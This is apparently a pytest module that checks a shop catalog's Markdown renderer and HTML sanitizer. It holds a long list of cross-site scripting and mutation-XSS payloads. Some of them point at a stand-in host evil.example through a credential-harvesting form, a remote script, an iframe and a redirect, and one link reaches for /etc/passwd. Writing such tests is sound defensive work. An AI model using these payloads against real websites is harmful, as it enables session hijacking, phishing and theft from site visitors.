"""Texts that want to do something to the page that shows them."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalog.markdown import render_markdown
from catalog.markdown.safety import ATTRIBUTES, TAGS, made_safe

SOURCES = [
    # Scripts and other elements, as HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><style><!--</style><img title=\"--&gt;&lt;img src onerror=1&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math href=javascript:alert(1)>x</math>",
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">x</div>',
    '<div id="cart">x</div>',
    '<a href="https://a.example" id="stage">x</a>',
    '<div hx-get="/cart/" hx-trigger="load">x</div>',
    '<template><script>alert(1)</script></template>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</article></main><script>alert(1)</script>",
    # Addresses, as Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x"onerror="alert(1)](a.png)',
    '![x](a.png"onerror="alert(1))',
    '[x](https://a.example "\\"onmouseover=\\"alert(1)")',
    '![x](a.png "</figcaption><script>alert(1)</script>")',
    # What the shop's Markdown adds
    "```\"><script>alert(1)</script>\nx\n```",
    "```python onload=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n</code></pre><script>alert(2)</script>\n```",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</mtext><img src=x onerror=alert(1)>}$",
    "$\\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\begin{matrix}<script>alert(1)</script>\\end{matrix}$$",
    "$</math><script>alert(1)</script>$",
    '$x"onmouseover="alert(1)$',
    "$\\hspace{1px\" onclick=\"alert(1)}x$",
    "> [!NOTE] <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "> [!NOTE\" onclick=\"alert(1)]\n> x",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "[^cart]\n\n[^cart]: [x](javascript:alert(1))",
    "^[<img src=x onerror=alert(1)>]",
    "## cart\n\n# stage\n\n### toasts",
    '## "><script>alert(1)</script>',
    "## [x](javascript:alert(1))",
    "[x](#\"onclick=\"alert(1))",
    "term\n: <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
]  # fmt: skip
# What the parser would never write: the last door holds by itself.
HTML = [
    "<math><mtext><table><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=1></annotation-xml></math>",
    "<svg><foreignObject><math><mi><style><a title='</style><img src onerror=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<h2 id=cart onclick=x>a</h2><li id=stage>b<a id=toasts href=' javascript:x'>c</a>",
    "<span class='button hl-k' style='x'>a</span><div class=toast role=alert>b</div>",
    "<math href='javascript:x' xlink:href='javascript:x'><mtext><script>x</script></mtext></math>",
]
ADDRESSES = ("http://", "https://", "mailto:", "/", "#")


class Everything(HTMLParser):
    """Notes what a browser would find."""

    def __init__(self, html):
        super().__init__()
        self.elements = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")


def assert_harmless(html):
    for tag, attributes in Everything(html).elements:
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | {"tabindex", "rel"}
        assert attributes.get("id", "text-").startswith(("text-", "note-"))
        for name in ("href", "src"):
            address = (attributes.get(name) or "").strip().lower()
            scheme = address.partition(":")[0]
            assert not scheme.isalpha() or ":" not in address or address.startswith(ADDRESSES)


@pytest.mark.parametrize("source", SOURCES)
def test_a_hostile_text_does_nothing(source):
    assert_harmless(render_markdown(source))
    assert_harmless(render_markdown(f"> - a\n>   {source}\n\nb[^1]\n\n[^1]: {source}"))


@pytest.mark.parametrize("html", HTML)
def test_hostile_html_does_nothing(html):
    assert_harmless(made_safe(html))
    assert made_safe(made_safe(html)) == made_safe(html)


PIECES = st.sampled_from(
    [*SOURCES, *HTML, "$", "$$", "\n\n", "> [!NOTE]\n", "```sql\n", "[^1]", "[^1]: ", "^[", "![",
     "](", "\\frac", "{", "}", "\\text{", "## ", "| a |\n|---|\n", "\n: ", "    ", ">", '"', "~~"]
)  # fmt: skip


@settings(max_examples=50, deadline=None)
@given(st.lists(PIECES | st.text(max_size=8), max_size=8).map("".join))
def test_no_text_fails_or_does_anything(source):
    assert_harmless(render_markdown(source))
